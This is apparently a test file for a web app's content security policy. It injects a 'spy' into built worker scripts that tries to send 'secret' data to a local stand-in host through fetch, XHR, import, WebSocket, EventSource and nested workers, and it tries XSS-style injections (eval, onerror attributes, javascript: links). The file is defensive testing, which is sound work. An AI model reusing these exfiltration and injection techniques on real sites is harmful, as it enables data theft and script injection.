import {cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import {availableParallelism, tmpdir} from "node:os";
import {join} from "node:path";
import {afterAll, afterEach, beforeAll, describe, expect, test} from "vitest";
import {PROJECT} from "../../src/notebook/site/buildSite.ts";
import {openLab, type OpenLab} from "./openLab.ts";

/** Whatever reaches another host. */
const arrived: string[] = [];
const other = createServer((request, response) => {
  arrived.push(request.url!);
  response.writeHead(200, {
    "Access-Control-Allow-Origin": "*",
    "Cross-Origin-Resource-Policy": "cross-origin",
    "Content-Type": "text/javascript"
  });
  response.end();
}).on("upgrade", (request, socket) => (arrived.push(request.url!), socket.destroy()));

const folder = mkdtempSync(join(tmpdir(), "tiny-dalle-lab-"));
let lab: OpenLab;
let scripts: string[];

/**
 * Tries to send something to `host`, in every way that a worker has, itself and by a worker of its own
 * as the wasm threads are; runs in the worker, and then says so.
 */
async function spy(
  host: string,
  name: string,
  load: (address: string) => Promise<unknown>
): Promise<void> {
  const to = (way: string) => `${host}/${name}/${way}`;
  const opened = (source: EventTarget) =>
    new Promise((resolve) => {
      for (const type of ["open", "error", "message"]) source.addEventListener(type, resolve);
    });
  const nested =
    `const failed = () => {}; try { importScripts("${to("nested-script")}") } catch {}` +
    `fetch("${to("nested-fetch")}", {mode: "no-cors"}).catch(failed).then(() => postMessage("done"));`;
  const xhr = () => {
    const request = new XMLHttpRequest();
    request.open("POST", to("xhr"));
    request.send("secret");
    return new Promise((resolve) => request.addEventListener("loadend", resolve));
  };
  const ways: (() => unknown)[] = [
    () => fetch(to("fetch"), {method: "POST", mode: "no-cors", body: "secret"}),
    xhr,
    () => load(to("import")),
    () => opened(new WebSocket(to("socket").replace("http", "ws"))),
    () => opened(new EventSource(to("events"))),
    () => opened(new Worker(URL.createObjectURL(new Blob([nested]))))
  ];
  await Promise.allSettled(ways.map(async (way) => way()));
  new BroadcastChannel("spy").postMessage(name);
}

/** As text, or the test's own compiler makes something else of the import. */
const call = (host: string, name: string) =>
  `(${spy})(${JSON.stringify(host)}, ${JSON.stringify(name)}, (address) => import(address));`;

/** Tries to run scripts in ways that the policy forbids, and in one that it allows, the last of all. */
function inject(): void {
  const ran: string[] = [];
  Object.assign(window, {ran});
  const script = (text: string) => `window.ran.push("${text}")`;
  const attempts = [
    () => (0, eval)(script("eval")),
    () => void new Function(script("Function"))(),
    () => void setTimeout(script("timeout") as unknown as () => void),
    () => {
      const element = document.createElement("script");
      element.textContent = script("element");
      document.head.append(element);
    },
    () => {
      const link = `<a id="injected" href='javascript:${script("link")}'>link</a>`;
      const picture = `<img src="data:," onerror='${script("attribute")}'>`;
      document.body.insertAdjacentHTML("afterbegin", link + picture);
    }
  ];
  for (const attempt of attempts) {
    try {
      attempt();
    } catch {
      // Refused, as it should be.
    }
  }
  const blob = new Blob([script("a file and a blob")], {type: "text/javascript"});
  const module = document.createElement("script");
  module.type = "module";
  module.src = URL.createObjectURL(blob);
  document.head.append(module);
}

/** What wasm threads begin with: they wait for their work, and then wait for nothing else. */
const THREAD = "onmessage = ({data}) => work(data);";
const LATE = "onmessage = ({data}) => spied.then(() => work(data));";
const inTemplate = (text: string) => text.replace(/[\\`$]/g, "\\$&");

beforeAll(async () => {
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const host = `http://localhost:${(other.address() as AddressInfo).port}`;
  cpSync(join(PROJECT, "dist"), folder, {recursive: true});
  const assets = join(folder, "assets");
  writeFileSync(join(folder, "page-spy.js"), call(host, "page"));
  writeFileSync(join(folder, "injected.js"), `(${inject})();`);
  scripts = readdirSync(assets).filter((file) => /^(worker|pictureWorker|shardWorker)-/.test(file));
  for (const script of scripts) {
    const path = join(assets, script);
    const text = readFileSync(path, "utf8");
    const watched = text.replace(
      THREAD,
      () => inTemplate(`const spied = ${call(host, "thread")}`) + LATE
    );
    if (/^worker-/.test(script)) expect(watched).not.toBe(text);
    writeFileSync(path, `${watched}\n;${call(host, script.split("-")[0])}\n`);
  }
});

afterAll(async () => {
  other.close();
  rmSync(folder, {recursive: true});
});

afterEach(() => lab?.close());

/** Opens a page that has no policy, from which others are visited. */
async function open(serverWithoutHeaders: boolean): Promise<void> {
  lab = await openLab({page: "no-such-page.html", folder, serverWithoutHeaders});
  await lab.context.addInitScript(() => {
    const heard: string[] = [];
    Object.assign(globalThis, {heard});
    new BroadcastChannel("spy").onmessage = ({data}) => heard.push(data);
  });
  await lab.page.goto(`${lab.server.url}no-such-page.html`);
  arrived.length = 0;
}

/** Resolves once a worker of this name has tried everything. */
const tried = (name: string) =>
  lab.page.waitForFunction(
    (name) => (globalThis as unknown as {heard: string[]}).heard.includes(name),
    name
  );

/** Opens a page; a plain host's loads itself once more, for the sake of threads. */
async function visit(address: string): Promise<void> {
  await lab.page.goto(lab.server.url + address);
  await lab.page.waitForFunction(() => crossOriginIsolated);
}

/** Has the page run a file of its site. */
function runFile(name: string): Promise<void> {
  return lab.page.evaluate((name) => {
    document.head.append(Object.assign(document.createElement("script"), {src: `./${name}`}));
  }, name);
}

/** A worker that does not begin as a blob. */
async function startShard(): Promise<void> {
  const script = scripts.find((name) => name.startsWith("shardWorker"))!;
  const address = `${lab.server.url}assets/${script}`;
  await lab.page.evaluate((address) => void new Worker(address, {type: "module"}), address);
  await tried("shardWorker");
}

test("what no worker can send arrives from one on a page without a policy", async () => {
  await open(true);
  await startShard();
  const ways = ["events", "fetch", "import", "nested-fetch", "nested-script", "socket", "xhr"];
  expect([...new Set(arrived)].sort()).toEqual(ways.map((way) => `/shardWorker/${way}`));
});

describe.each([true, false])("on a host without headers: %s", (serverWithoutHeaders) => {
  test("nothing goes to another host from any worker of the lab, nor from a page", async () => {
    await open(serverWithoutHeaders);
    // Three kinds, once a language.
    expect(scripts).toHaveLength(6);
    const {page, server} = lab;
    await visit("dvae.html");
    await tried("worker");
    const picture = {
      name: "dot.svg",
      mimeType: "image/svg+xml",
      buffer: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`)
    };
    // Kept open: reading this one picture ends before the spy does.
    await page.evaluate(() => (Worker.prototype.terminate = () => {}));
    await page
      .locator(".own-images input[type=file]:not([webkitdirectory])")
      .setInputFiles(picture);
    await tried("pictureWorker");
    if (availableParallelism() > 1) {
      await visit("index.html?n=1");
      await tried("thread");
    }
    await page.goto(`${server.url}distributed.html`);
    await page.getByRole("button", {name: "Train on one worker, then on all"}).click();
    await tried("shardWorker");
    // Not as the lab starts it: the host's header or the service worker holds it.
    await page.reload();
    await startShard();
    await runFile("page-spy.js");
    await tried("page");
    expect(arrived).toEqual([]);
  });

  test("a page runs no script in its own text, in an attribute, in a link or made of text", async () => {
    await open(serverWithoutHeaders);
    const {page} = lab;
    await visit("gumbel.html");
    await runFile("injected.js");
    const ran = () => page.evaluate(() => (window as unknown as {ran: string[]}).ran);
    await expect.poll(ran).toContain("a file and a blob");
    await page.locator("#injected").click();
    await page.waitForTimeout(200);
    expect(await ran()).toEqual(["a file and a blob"]);
  });
});
